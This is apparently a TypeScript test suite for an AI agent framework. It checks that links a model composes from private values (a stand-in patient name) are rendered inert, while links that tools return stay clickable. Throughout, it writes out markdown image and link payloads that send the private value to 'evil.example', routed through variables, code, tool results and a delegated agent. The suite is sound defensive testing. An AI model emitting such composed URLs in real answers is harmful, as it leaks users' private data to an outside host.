import { callable } from "../support/called-agents.ts";
import { tool } from "ai";
import { marked } from "marked";
import { describe, expect, it } from "vitest";
import * as z from "zod";
import { codeTool } from "../../packages/code/src/code-tool.ts";
import type { Agent } from "../../src/turn/agent.ts";
import type { Json } from "../../src/value/json.ts";
import { evaluatingSandbox } from "../support/evaluating-sandbox.ts";
import { MemoryFiles } from "../support/memory-files.ts";
import { finish, type Part, scriptedModel, text, toolCall } from "byref/testing";
import { Conversation, shownText } from "../support/turn.ts";

const PRIVATE = "4711PRIVATE";
const EVIL = "https://evil.example/?d=";
const any = z.object({}).loose();

const agent: Agent = {
  name: "test",
  description: "For tests.",
  instructions: "Help.",
  delegates: ["other"],
  naming: (name) => name,
  policies: { shorten: { declassifies: true } },
  tools: {
    echo: tool({ inputSchema: any, execute: ({ v }) => v }),
    shorten: tool({ inputSchema: any, execute: () => "https://sho.rt/1" }),
    find: tool({
      inputSchema: any,
      execute: () => [{ id: 1, url: "https://shop.example/1", name: PRIVATE }],
    }),
  },
};

interface Said {
  readonly calls: readonly (readonly Part[])[];
  readonly answer: string;
  /** The answer of the other agent, if it is asked. */
  readonly other?: string;
}

/** Returns the answer as HTML, as a page shows it. */
async function htmlOf(
  { calls, answer, other = "" }: Said,
  chat = conversation(other),
): Promise<string> {
  if (chat.store.count() === 0)
    await chat.store.save({ name: "patients", value: [{ name: PRIVATE }] });
  const steps = calls.map((call) => [call, finish("tool-calls")]);
  const turn = await chat.say({ steps: [...steps, [text(answer), finish()]] });
  return marked.parse(shownText(turn.chunks), { async: true });
}

function conversation(other: string): Conversation {
  return new Conversation({
    agent,
    services: {
      files: new MemoryFiles(),
      code: (options) => codeTool({ ...options, sandbox: evaluatingSandbox }),
      findAgent: () =>
        callable(
          { ...agent, name: "other", delegates: [] },
          scriptedModel([[text(other), finish()]]),
        ),
    },
  });
}

let ids = 0;
const call = (name: string, input: Json) => toolCall(name, input, { id: `call_${ids++}` });
const set = (name: string, value: Json, mode = "replace") =>
  call("set_variable", { name, value, mode });
const run = (code: string, variables = ["patients"]) => call("run_code", { code, variables });

function links(html: string): string {
  return (html.match(/<(?:a|img)\s[^>]*>/gi) ?? []).join("");
}

describe("a URL that a model composes from values is inert", () => {
  it.each<[string, Said]>([
    [
      "in a variable that it sets",
      { calls: [set("link", `![a](${EVIL}$patients[0].name)`)], answer: "$link" },
    ],
    [
      "in a tool's result",
      { calls: [call("echo", { v: `[a](${EVIL}$patients[0].name)` })], answer: "$echo" },
    ],
    [
      "by code",
      { calls: [run(`return "![a](${EVIL}" + patients[0].name + ")"`)], answer: "$run_code_1" },
    ],
    [
      "by code that calls a tool",
      {
        calls: [run(`await tools.echo({ v: "${EVIL}" + patients[0].name }); return 1`)],
        answer: "See $echo",
      },
    ],
    [
      "by another agent",
      {
        calls: [call("delegate", { agent: "other", task: "Go." })],
        other: `Name: $patients[0].name ![a](${EVIL}${PRIVATE})`,
        answer: "$delegate_other",
      },
    ],
    [
      "by appending",
      {
        calls: [
          set("link", `![a](${EVIL}`),
          set("link", "$patients[0].name", "append"),
          set("link", ")", "append"),
        ],
        answer: "$link",
      },
    ],
    [
      "over the strings of an object",
      {
        calls: [set("o", { a: `![a](${EVIL}`, b: "$patients[0].name" })],
        answer: "$o)",
      },
    ],
    [
      "in a copy of a copy",
      {
        calls: [
          set("link", `${EVIL}$patients[0].name`),
          set("o", { b: "$link" }),
          run("return o.b", ["o"]),
        ],
        answer: "See $run_code_1",
      },
    ],
  ])("%s", async (_, said) => {
    const html = await htmlOf(said);
    expect(html).toContain(PRIVATE);
    expect(links(html)).not.toContain(PRIVATE);
  });

  it("in a sealed value of any source", async () => {
    const chat = conversation("");
    await chat.store.save({ name: "s", value: `[a](${EVIL}${PRIVATE})`, visibility: "sealed" });
    const html = await htmlOf({ calls: [], answer: "$s" }, chat);
    expect(html).toContain(PRIVATE);
    expect(links(html)).toBe("");
  });
});

describe("a URL that a tool returned is a link", () => {
  it.each<[string, Said]>([
    ["as it is", { calls: [call("find", {})], answer: "[one]($find[0].url) or $find[0].url" }],
    ["in a table", { calls: [call("find", {})], answer: "$find" }],
    ["in a copy", { calls: [call("find", {}), set("x", "$find[0].url")], answer: "$x" }],
    [
      "in a text",
      {
        calls: [call("find", {}), set("x", "At $find[0].url for $patients[0].name.")],
        answer: "$x",
      },
    ],
    [
      "in a list that code makes",
      {
        calls: [
          call("find", {}),
          run("return find.map(({ id, url }) => `- [Order ${id}](${url})`).join('\\n')", ["find"]),
        ],
        answer: "$run_code_1",
      },
    ],
    [
      "that another agent passes on",
      {
        calls: [call("find", {}), call("delegate", { agent: "other", task: "Go." })],
        other: "At $find[0].url",
        answer: "$delegate_other",
      },
    ],
  ])("%s", async (_, said) => {
    expect(links(await htmlOf(said))).toContain('<a href="https://shop.example/1">');
  });

  it("even if the tool received a composed URL, if its policy declassifies", async () => {
    const shortening = [call("shorten", { v: `${EVIL}$patients[0].name` })];
    const html = await htmlOf({ calls: shortening, answer: "$shorten" });
    expect(links(html)).toBe('<a href="https://sho.rt/1">');
  });
});
